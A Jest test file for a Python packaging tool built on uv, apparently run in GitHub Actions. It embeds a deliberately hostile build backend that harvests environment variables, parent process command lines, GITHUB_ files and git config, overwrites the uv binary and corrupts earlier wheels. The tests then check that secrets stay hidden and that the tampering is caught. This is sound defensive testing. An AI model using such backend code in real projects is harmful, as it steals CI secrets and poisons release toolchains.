// What a build backend that means harm gets to see, and what becomes of what it changes. Another process of the same
// user can always read /proc/<pid>/environ of its parents: that is the documented limit of the one-job form, so
// environment, arguments and files are what is asserted here.
import { execFileSync } from 'node:child_process';
import { copyFile, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import { childEnvironment } from '../../../src/gateways/child-environment.ts';
import { digestFile } from '../../../src/gateways/files.ts';
import { buildDistributions } from '../../../src/gateways/python/build-distributions.ts';
import { checkInstall } from '../../../src/gateways/python/install-check.ts';
import { UV_PINS, UV_VERSION } from '../../../src/gateways/python/uv-pins.ts';
import { uvPlatform } from '../../../src/gateways/python/uv-platform.ts';
import { prepareUv, type Uv } from '../../../src/gateways/python/uv-tool.ts';
import { startIndex } from './loopback-index.ts';
import { writeWheel } from './small-wheel.ts';
import { anyPython, cleanEnvironment, warmUv, warmUvWheel } from './warm-uv.ts';

jest.setTimeout(60_000);

const SECRETS = ['ghs_runner-token-of-acme', 'the-publishing-password'];

const BACKEND = `
import json, os, sys
def read(path):
    try:
        with open(path, "rb") as file: return file.read().decode(errors="replace")
    except OSError as error: return str(error)
def parents(pid):
    while pid > 1:
        yield pid
        pid = int(read("/proc/%d/stat" % pid).rsplit(")", 1)[1].split()[1])
def attack(target):
    uv = next(path for path in (os.readlink("/proc/%d/exe" % pid) for pid in parents(os.getppid())) if path.endswith("/uv"))
    os.unlink(uv)
    with open(uv, "w") as file: file.write("#!/bin/sh\\necho owned\\n")
    os.chmod(uv, 0o755)
    for name in os.listdir(target):
        if name.endswith(".whl"):
            with open(os.path.join(target, name), "ab") as file: file.write(b"owned")
    return uv
def build_sdist(folder, settings=None):
    raise NotImplementedError
def build_wheel(folder, settings=None, metadata=None):
    source = os.environ["HOME"] + "/project"
    loot = {
        "environment": dict(os.environ),
        "arguments": sys.argv,
        "commands": [read("/proc/%d/cmdline" % pid) for pid in parents(os.getpid())],
        "files": {name: read(value) for name, value in os.environ.items() if name.startswith("GITHUB_") and value.startswith("/")},
        "git": read(source + "/.git/config"),
        "overwritten": attack(source + "/dist"),
    }
    with open(os.environ["HOME"] + "/loot.json", "w") as file: json.dump(loot, file)
    name = "acme_vault-1.0-py3-none-any.whl"
    open(os.path.join(folder, name), "w").close()
    return name
`;

interface Loot {
  readonly environment: Readonly<Record<string, string>>;
  readonly arguments: readonly string[];
  readonly commands: readonly string[];
  readonly files: Readonly<Record<string, string>>;
  readonly git: string;
  readonly overwritten: string;
}

let home: string;
let project: string;
let uv: Uv;
let loot: Loot;
let env: Record<string, string>;
let earlier: Awaited<ReturnType<typeof writeWheel>>;

beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'hostile-'));
  project = join(home, 'project');
  await mkdir(join(project, 'dist'), { recursive: true });
  execFileSync('git', ['init', '-q', project]);
  await writeFile(join(project, 'backend.py'), BACKEND);
  await writeFile(
    join(project, 'pyproject.toml'),
    '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "acme-vault"\nversion = "1.0"\n',
  );
  env = { ...cleanEnvironment(), ...(await hostileMachine()) };
  process.env['RUNNER_TOOL_CACHE'] = env['RUNNER_TOOL_CACHE'];
  uv = await prepareUv({ fetch, env });
  await attackedBuild();
}, 180_000);
afterAll(() => rm(home, { recursive: true, force: true }));

/** The environment of an action's step, with its secrets, and a uv of its own to be spoilt. */
async function hostileMachine(): Promise<Record<string, string>> {
  const tools = join(home, 'tools');
  const kept = join(tools, 'uv', UV_VERSION, process.arch);
  const { path } = await warmUv();
  await mkdir(kept, { recursive: true });
  await copyFile(path, join(kept, basename(path)));
  await writeFile(`${kept}.complete`, '');
  const [token = '', password = ''] = SECRETS;
  await writeFile(join(home, 'output'), `token=${token}\n`);
  return {
    HOME: home,
    UV_CACHE_DIR: join(home, 'uv-cache'),
    RUNNER_TOOL_CACHE: tools,
    RUNNER_TEMP: home,
    INPUT_TOKEN: token,
    INPUT_PASSWORD: password,
    'INPUT_PYPI-TOKEN': password,
    GITHUB_TOKEN: token,
    GITHUB_OUTPUT: join(home, 'output'),
    GITHUB_ENV: join(home, 'output'),
    GITHUB_STATE: join(home, 'output'),
    GITHUB_SHA: 'a'.repeat(40),
    ACTIONS_RUNTIME_TOKEN: token,
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: token,
    ACTIONS_ID_TOKEN_REQUEST_URL: 'https://token.acme.example/',
    TWINE_PASSWORD: password,
    UV_PUBLISH_TOKEN: password,
    ACME_HEADER: `basic ${Buffer.from(`x-access-token:${token}`).toString('base64')}`,
    CFLAGS: '-O2',
  };
}

/** The command of the build is `uv build --wheel`, after which an earlier step's wheel lies in dist. */
async function attackedBuild(): Promise<void> {
  const children = childEnvironment(env, SECRETS);
  earlier = await writeWheel(join(project, 'dist'), { name: 'acme-vault', version: '1.0', files: {} });
  const spoil = await uv.run(
    ['build', '--wheel', `--python=${(await anyPython()).request}`, `--out-dir=${join(home, 'out')}`],
    { cwd: project, env: children },
  );
  expect(spoil).toMatchObject({ exitCode: 0 });
  loot = JSON.parse(await readFile(join(home, 'loot.json'), 'utf8')) as Loot;
}

describe('sees no secret', () => {
  const parts: readonly (keyof Loot)[] = ['environment', 'arguments', 'commands', 'files', 'git'];
  test.each(parts)('in its %s', (part) => {
    const seen = JSON.stringify(loot[part]);
    for (const secret of SECRETS) {
      expect(seen).not.toContain(secret);
      expect(seen).not.toContain(Buffer.from(`x-access-token:${secret}`).toString('base64'));
    }
  });

  test('nor the way to one, but what a build needs', () => {
    const names = Object.keys(loot.environment);
    expect(names.filter((name) => /^(INPUT|ACTIONS|TWINE|UV_PUBLISH|RUNNER)_/.test(name))).toEqual([]);
    expect(names.filter((name) => name.startsWith('GITHUB_'))).toEqual(['GITHUB_SHA']);
    expect(loot.environment['CFLAGS']).toBe('-O2');
    expect(loot.commands.length).toBeGreaterThan(2);
  });
});

test('the uv that it replaced is not started again', async () => {
  expect(loot.overwritten).toBe(uv.path);
  expect(await readFile(uv.path, 'utf8')).toContain('owned');
  const request = {
    uv,
    python: await anyPython(),
    sourceDir: project,
    outDir: join(home, 'second'),
    sourceDateEpoch: 0,
    env: childEnvironment(env, SECRETS),
    pretend: {},
    buildCommand: null,
    log: () => undefined,
  };
  await expect(buildDistributions(request)).rejects.toMatchObject({ code: 'uv-changed' });
});

test('the next release fetches uv again', async () => {
  const { filename } = UV_PINS[uvPlatform()];
  const files = new Map([[filename, await readFile(await warmUvWheel())]]);
  const index = await startIndex({ project: 'uv', files });
  try {
    const again = await prepareUv({
      fetch,
      env: { ...env, UV_DEFAULT_INDEX: `${index.origin}/simple/` },
    });
    expect(again.path).toBe(uv.path);
    expect((await digestFile(again.path)).sha256).toBe(UV_PINS[uvPlatform()].executable);
  } finally {
    await index.close();
  }
});

test('the wheel of the step before, which it changed, is not installed', async () => {
  expect((await digestFile(earlier.location)).sha256).not.toBe(earlier.sha256);
  const check = checkInstall({
    uv: await warmUv(),
    python: await anyPython(),
    env: childEnvironment(env, SECRETS),
    configurationDir: null,
    temporary: home,
    name: 'acme-vault',
    version: '1.0',
    files: [earlier],
    modules: [],
    scripts: [],
    verifyCommand: null,
    verifyDir: null,
    log: () => undefined,
  });
  await expect(check).rejects.toMatchObject({ code: 'install-failed' });
});
